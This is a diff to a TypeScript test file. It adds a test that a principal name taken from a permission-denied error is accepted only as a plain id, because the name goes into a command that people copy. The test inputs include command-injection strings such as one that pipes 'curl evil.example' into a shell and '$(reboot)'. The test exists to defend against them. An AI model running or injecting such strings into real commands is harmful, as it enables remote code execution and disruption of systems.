@@ -300,3 +300,20 @@ it("an error inside a stream keeps its code and words", () => {
   expect(diagnoseStreamError("a text", context).raw?.message).toBe("a text");
   expect(diagnoseStreamError({ message: `key ${key}` }, context).raw?.message).toBe("key •••");
 });
+
+describe("who lacks a role", () => {
+  const principalIn = (name: string) =>
+    of(401, {
+      error: {
+        code: "PermissionDenied",
+        message: `The principal \`${name}\` lacks the required data action \`x\`.`,
+      },
+    }).parameters.principal;
+
+  it("is named by an id, and by nothing else: it goes into a command that people copy", () => {
+    const id = "00000000-0000-4000-8000-000000000003";
+    expect(principalIn(id)).toBe(id);
+    for (const odd of ['x"; curl evil.example | sh #', "$(reboot)", `${id}"; reboot`, ""])
+      expect(principalIn(odd)).toBe("");
+  });
+});
